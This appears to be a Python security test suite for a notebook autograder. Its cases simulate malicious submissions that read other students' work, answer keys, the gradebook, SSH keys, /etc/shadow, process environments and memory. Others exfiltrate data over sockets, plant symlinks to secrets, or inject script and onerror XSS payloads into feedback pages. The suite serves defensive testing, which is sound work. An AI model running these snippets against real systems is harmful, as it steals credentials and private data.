"""Submissions that want to know what is none of their business, and put it into their answers and
outputs."""

from __future__ import annotations

from html.parser import HTMLParser

from tests.attacks.course import KEGUAN, POINTS, STOCK, Scene
from tests.attacks.harness import attack, outputs, pages, said

READ = """
import os, glob
def read(*patterns):
    found = []
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True):
            try:
                with open(path, "rb") as f:
                    found.append(path + ": " + f.read(200_000).decode("utf-8", "replace"))
            except Exception as error: found.append(f'{path}: {error}')
    return '\\n'.join(found)
"""
SHOW = "loot = {0}\nprint(loot)\nloot"


def nothing_read(scene: Scene, student: str) -> None:
    """Asserts that no secret stands in what the student sees or put into the graded notebook, or
    reached the listener."""
    seen = said(scene, student) + "\n" + "\n".join(scene.heard)
    everything = seen + outputs(scene, student)
    found = [
        kind
        for kind, secret in scene.secrets.items()
        if secret in (seen if kind == "hidden" else everything)
    ]
    assert not found, f"{student} got hold of: {found}"
    assert pages(scene, student), f"{student} has no feedback page"


def no_shadow(scene: Scene, student: str) -> None:
    """Asserts that no line of the machine's password file came out."""
    nothing_read(scene, student)
    assert "root:$" not in said(scene, student) and "root:*:" not in said(scene, student)


def spy(name: str, what: str, source: str, *, solved: bool = True, **options) -> None:
    """A case that solves everything and shows what `source` (an expression after READ) gives."""
    assignment = options.get("assignment", STOCK)
    options.setdefault("check", nothing_read)
    attack(
        name,
        "read",
        what,
        work=solved,
        first=READ + options.pop("before", "") + SHOW.format(source),
        expected=options.pop("expected", dict(POINTS[assignment])),
        **options,
    )


spy(
    "neighbours",
    "Prints the submissions and marked notebooks of all others.",
    "read('@course@/submitted/**/*', '@course@/autograded/**/*', '@course@/feedback/**/*', "
    "'../../*', '/tmp/*/course/submitted/**/*')",
)
spy(
    "source",
    "Prints the instructor's notebooks with answers.",
    "read('@course@/source/**/*.ipynb', '@course@/release/**/*.ipynb', '@course@/*.py', "
    "'../../../source/**/*.ipynb')",
)
spy(
    "gradebook",
    "Reads the gradebook, as bytes and through SQL.",
    "read('@course@/gradebook.db', '@course@/reports/*') + rows()",
    before="""
import sqlite3
def rows():
    try:
        return str(
            sqlite3.connect("@course@/gradebook.db").execute("select * from student").fetchall()
        )
    except Exception as error:
        return str(error)
""",
)
spy(
    "home",
    "Reads keys in the instructor's home.",
    "read('@home@/**/*', os.path.expanduser('~/**/*'), '/*/.ssh/*', '/home/*/.ssh/*')",
)
spy(
    "passwords",
    "Reads the machine's password file.",
    "read('/etc/shadow', '/etc/gshadow', '/etc/sudoers')",
    check=no_shadow,
)
spy(
    "environment",
    "Prints the environment, its own and that of every process.",
    "str(dict(os.environ)) + read('/proc/1/environ', '/proc/self/environ', '/proc/*/environ', "
    "'/proc/*/cmdline')",
)
spy(
    "truth",
    "Reads the truth tables of the datasets.",
    "read('@datasets@/**/*', os.environ.get('KEGUAN_DATASETS', '/nowhere') + '/**/*')",
)
spy(
    "memory",
    "Searches its own memory for the hidden tests, answers and other secrets.",
    "search('self')",
    before="""
import ctypes
def search(pid):
    found = []
    try:
        for line in open(f'/proc/{pid}/maps').read().splitlines():
            low, high = (int(n, 16) for n in line.split()[0].split('-'))
            if ' rw' not in line or high - low > 100_000_000: continue
            data = ctypes.string_at(low, high - low)
            place = data.find(b'SEC' + b'RET')
            while place >= 0 and len(found) < 500:
                found.append(data[place : place + 60].decode("latin-1"))
                place = data.find(b"SEC" + b"RET", place + 6)
    except OSError as error: found.append(str(error))
    return '\\n'.join(found)
""",
)
spy(
    "others-memory",
    "Searches the memory of every other process, with ptrace as well.",
    "everyone()",
    before="""
import ctypes
def everyone():
    found = []
    for pid in (
        [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())][:50]
        if os.path.isdir("/proc")
        else []
    ):
        try:
            for line in open(f"/proc/{pid}/maps").read().splitlines():
                if "heap" in line:
                    low, high = (int(n, 16) for n in line.split()[0].split("-"))
                    with open(f"/proc/{pid}/mem", "rb", 0) as mem:
                        mem.seek(low)
                        data = mem.read(min(high - low, 50_000_000))
                    place = data.find(b"SEC" + b"RET")
                    found.append(
                        pid + data[place : place + 60].decode("latin-1") if place >= 0 else pid
                    )
        except OSError as error:
            found.append(f"{pid} {error}")
    return '\\n'.join(found)
""",
)
spy(
    "objects",
    "Looks through all objects, frames, source caches and loaded modules for tests and answers.",
    "objects()",
    before="""
import gc, sys, linecache
def objects():
    found = []
    for thing in gc.get_objects():
        try: text = repr(thing) if type(thing) in (dict, list, tuple) and len(thing) < 3000 else ''
        except Exception: continue
        place = text.find('SEC' + 'RET')
        while place >= 0 and len(found) < 300:
            found.append(text[place:place + 60]); place = text.find('SEC' + 'RET', place + 6)
    found += [
        line
        for entry in list(linecache.cache.values())
        if len(entry) > 2
        for line in entry[2]
        if "SEC" + "RET" in line
    ]
    return '\\n'.join(found)
""",
)
attack(
    "in-a-call",
    "read",
    "A function called by a hidden test prints its callers' source and variables.",
    assignment=KEGUAN,
    work=True,
    check=nothing_read,
    expected=dict(POINTS[KEGUAN]),
    answers={
        "double": """
import sys, inspect
def double(x):
    frame = sys._getframe(1)
    while frame:
        print({k: repr(v)[:500] for k, v in list(frame.f_locals.items())})
        try: print(inspect.getsource(frame))
        except Exception: pass
        frame = frame.f_back
    return 2 * x
"""
    },
)
attack(
    "in-an-error",
    "read",
    "A function called by a hidden test raises an error with all it can see, its arguments too.",
    check=nothing_read,
    answers={
        "square": "import sys\ndef square(n):\n    f = sys._getframe(1)\n    said = [repr(n)]\n"
        "    while f:\n        said.append(str(f.f_locals)[:2000]); f = f.f_back\n"
        "    raise ValueError('\\n'.join(said))"
    },
)
spy(
    "network",
    "Sends what it has to a listener on this machine, over TCP, UDP and Unix sockets.",
    "leak()",
    before="""
import socket
def leak():
    said = []
    for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @port@)),
                                  (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @port@)),
                                  (socket.AF_UNIX, socket.SOCK_STREAM, '@unix@'),
                                  (socket.AF_UNIX, socket.SOCK_STREAM, '\\0@abstract@'),
                                  (socket.AF_INET, socket.SOCK_STREAM, ('10.255.255.1', 80))):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.3)
                s.connect(address)
                s.send(b'CALLED HOME')
                said.append(str(address))
        except OSError as error: said.append(str(error))
    return str(said)
""",
    check=lambda scene, student: (nothing_read(scene, student), _silent(scene)),
)
spy(
    "leaves-a-note",
    "Leaves a note for the next submission wherever it can write.",
    "leave()",
    before="""
def leave():
    word = 'SEC' + 'RETUPLOAD' + '@note@'
    for folder in ('/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~'), '.', '..', '/run', '/'):
        try:
            with open(os.path.join(folder, 'keguan-note.txt'), 'w') as f: f.write(word)
        except OSError: pass
    return 'left'
""",
    check=None,
)
spy(
    "finds-a-note",
    "Looks for what earlier submissions left behind.",
    "read('/tmp/**/*note*', '/dev/shm/*', '/var/tmp/*', os.path.expanduser('~/*note*'), "
    "'./*note*', '../*note*', '/run/*note*', '/*note*')",
)
spy(
    "descriptors",
    "Reads every file descriptor that it inherited.",
    "descriptors()",
    before="""
def descriptors():
    found = []
    for name in (
        os.listdir("/proc/self/fd") if os.path.isdir("/proc/self/fd") else map(str, range(3, 100))
    ):
        try:
            link = os.readlink(f"/proc/self/fd/{name}") if os.path.isdir("/proc/self/fd") else name
            found.append(link)
            if not link.startswith(("socket", "pipe", "anon")):
                found.append(os.pread(int(name), 1_000_000, 0).decode("latin-1"))
        except OSError as error:
            found.append(str(error))
    return '\\n'.join(found)
""",
)
attack(
    "link-in-answer",
    "read",
    "Files beside the notebook are made links to secrets, so that the grader copies them.",
    work=True,
    expected=dict(POINTS[STOCK]),
    check=nothing_read,
    first=READ
    + """
for name, target in (
    ("plain-tasks.html", "@home@/.ssh/id_ed25519"),
    ("notes.txt", "@course@/gradebook.db"),
    ("folder", "@course@/source"),
):
    try:
        os.symlink(target, name)
    except OSError:
        pass
"""
    + SHOW.format("read('./**/*')"),
)


def _silent(scene: Scene) -> None:
    assert not [word for word in scene.heard if "CALLED HOME" in word], scene.heard


# A script or a handler in the feedback page would run in the instructor's browser.
class Active(HTMLParser):
    """Collects what is active in a page and comes from the attack."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag, attrs):
        self.inside = tag
        self.found += [
            f"{tag} {name}={value}"
            for name, value in attrs
            if value
            and "steal" in value
            and (name.startswith("on") or name in ("href", "src", "srcdoc", "action", "data"))
        ]

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside in ("script", "style") and "steal" in data:
            self.found.append(f"{self.inside}: {data[:80]}")


def no_script(scene: Scene, student: str) -> None:
    """Asserts that nothing of the submission is active in its feedback page."""
    nothing_read(scene, student)
    for page in pages(scene, student):
        parser = Active()
        parser.feed(page.read_text(encoding="utf-8"))
        assert not parser.found, f"{student}: {parser.found}"


attack(
    "page-script",
    "read",
    "HTML and script in outputs, in the written answer and in names want to run in the "
    "instructor's browser.",
    work=True,
    expected=dict(POINTS[STOCK]),
    check=no_script,
    answers={
        "essay": '<script>steal()</script><img src=x onerror="steal()">'
        ' [x](javascript:steal())<iframe src="//steal"></iframe>'
    },
    first="from IPython.display import HTML, Javascript, SVG, display\n"
    "display(HTML('<script>steal()</script><img src=x onerror=steal()>'))\n"
    "display(Javascript('steal()'))\ndisplay(SVG('<svg onload=\"steal()\" "
    'xmlns="http://www.w3.org/2000/svg"/>\'))\n'
    "print('<script>steal()</script>')",
)
